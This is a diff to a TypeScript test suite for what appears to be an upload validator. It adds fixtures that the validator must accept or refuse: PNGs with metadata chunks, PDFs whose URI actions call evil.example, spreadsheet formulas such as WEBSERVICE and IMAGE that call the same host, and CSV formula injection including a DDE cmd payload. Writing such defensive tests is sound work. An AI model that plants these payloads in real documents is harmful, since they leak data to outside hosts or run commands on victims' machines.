@@ -56,6 +56,18 @@ function drawings(): Upload[] {
 const entities = () =>
   [...'bcdefghij'].map((name, index) => `<!ENTITY ${name} "${`&${'abcdefghi'[index] ?? ''};`.repeat(10)}">`).join('');
 
+/** A PNG with one more chunk after its head. */
+function withText(png: Buffer, kind: string, content: string | Uint8Array): Buffer {
+  const body = join(kind, content);
+  const [length, sum] = [Buffer.alloc(4), Buffer.alloc(4)];
+  length.writeUInt32BE(body.length - 4);
+  sum.writeUInt32BE(crc32(body));
+  return join(png.subarray(0, 33), length, body, sum, png.subarray(33));
+}
+
+const formula = (text: string) =>
+  strToU8(`<worksheet><sheetData><row r="1"><c r="A1"><f>${text}</f></c></row></sheetData></worksheet>`);
+
 async function pictures(): Promise<Upload[]> {
   const make = (width = 8, height = 8) => sharp({ create: { width, height, channels: 3, background: '#456' } });
   const png = await make().png().toBuffer();
@@ -71,6 +83,17 @@ async function pictures(): Promise<Upload[]> {
     pass('picture', 'foto/baik.png', png),
     pass('photo', 'foto/baik.jpg', jpeg),
     pass('photo as WebP', 'foto/baik.webp', webp),
+    refuse(
+      'picture with its place in an old form',
+      'foto/a.png',
+      withText(png, 'zTXt', join('Raw profile type xmp\0\0', deflateSync(xmp))),
+    ),
+    refuse(
+      'picture with what a camera knows in an old form',
+      'foto/a.png',
+      withText(png, 'tEXt', 'Raw profile type exif\0\nexif\n 4\n00000000\n'),
+    ),
+    pass('picture with a remark', 'foto/catatan.png', withText(png, 'tEXt', `Comment\0${script}`)),
     refuse('picture of no bytes', 'foto/a.png', ''),
     refuse('picture cut off after its head', 'foto/a.png', png.subarray(0, 33)),
     refuse('picture cut off in the middle', 'foto/a.png', png.subarray(0, png.length - 24)),
@@ -225,6 +248,22 @@ function documents(): Upload[] {
       'dokumen/a.pdf',
       pdf('<</Type/Catalog>>', stream('/Type/EmbeddedFile', ascii('MZ'))),
     ),
+    refuse(
+      'document with a model in space',
+      'dokumen/a.pdf',
+      pdf('<</Type/Catalog>>', stream('/Type/3D/Subtype/U3D/OnInstantiate 3 0 R', ascii('x'))),
+    ),
+    refuse(
+      'document with a page from elsewhere',
+      'dokumen/a.pdf',
+      pdf('<</Type/Catalog>>', stream('/F<</FS /URL/F(https://evil.example/x)>>', ascii(''))),
+    ),
+    refuse('document that calls somebody up', 'dokumen/a.pdf', action('<</S/URI/URI(https://evil.example/)>>')),
+    refuse(
+      'document that calls somebody up from a page',
+      'dokumen/a.pdf',
+      pdf('<</Type/Catalog>>', '<</Type/Page/AA<</O<</S/URI/URI(https://evil.example/)>>>>>>'),
+    ),
     refuse('document with rich media', 'dokumen/a.pdf', pdf('<</Type/Catalog>>', '<</Type/Annot/Subtype/RichMedia>>')),
     refuse('document with a film', 'dokumen/a.pdf', pdf('<</Type/Catalog>>', '<</Type/Annot/Subtype/Movie>>')),
     refuse(
@@ -368,6 +407,26 @@ function offices(): Upload[] {
     pass('letter', 'dokumen/baik.docx', word()),
     pass('letter that links', 'dokumen/tautan.docx', word({ [link]: outside('hyperlink', 'https://contoh.example/') })),
     pass('sheet', 'dokumen/baik.xlsx', sheet()),
+    refuse(
+      'sheet that asks a host',
+      'dokumen/a.xlsx',
+      sheet({ 'xl/worksheets/sheet1.xml': formula('WEBSERVICE("https://evil.example/"&amp;A2)') }),
+    ),
+    refuse(
+      'sheet with a picture from elsewhere',
+      'dokumen/a.xlsx',
+      sheet({ 'xl/worksheets/sheet1.xml': formula('_xlfn.IMAGE("https://evil.example/x.png")') }),
+    ),
+    refuse(
+      'sheet that asks a program',
+      'dokumen/a.xlsx',
+      sheet({ 'xl/worksheets/sheet1.xml': formula('RTD("x.y",,"z")') }),
+    ),
+    pass(
+      'sheet that adds up',
+      'dokumen/jumlah.xlsx',
+      sheet({ 'xl/worksheets/sheet1.xml': formula('SUM(A1:A9)+RECALL') }),
+    ),
     refuse('letter with a program', 'dokumen/a.docx', word({ 'word/vbaProject.bin': Buffer.alloc(64) })),
     refuse('letter with a program in capitals', 'dokumen/a.docx', word({ 'word/VBAPROJECT.BIN': Buffer.alloc(64) })),
     refuse(
@@ -480,6 +539,8 @@ function texts(): Upload[] {
     refuse('text of null bytes', 'dokumen/a.txt', Buffer.alloc(64)),
     refuse('text that is no UTF-8', 'dokumen/a.txt', Buffer.from([0x4e, 0xff, 0xfe, 0xc0, 0x80])),
     refuse('table of formulas', 'dokumen/a.csv', '=cmd|\'/C calc\'!A0,"=HYPERLINK(""https://evil.example/"")"\n'),
+    refuse('table of formulas with old line ends', 'dokumen/a.csv', 'a,b\r=1+1,2\r'),
+    refuse('table of formulas with a tab before', 'dokumen/a.csv', 'a;"\t=HYPERLINK(1)"\n'),
     refuse('page', 'dokumen/a.html', webPage),
     refuse('page of XML', 'dokumen/a.xhtml', `<html xmlns="http://www.w3.org/1999/xhtml">${script}</html>`),
     refuse('XML', 'dokumen/a.xml', `<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>`),
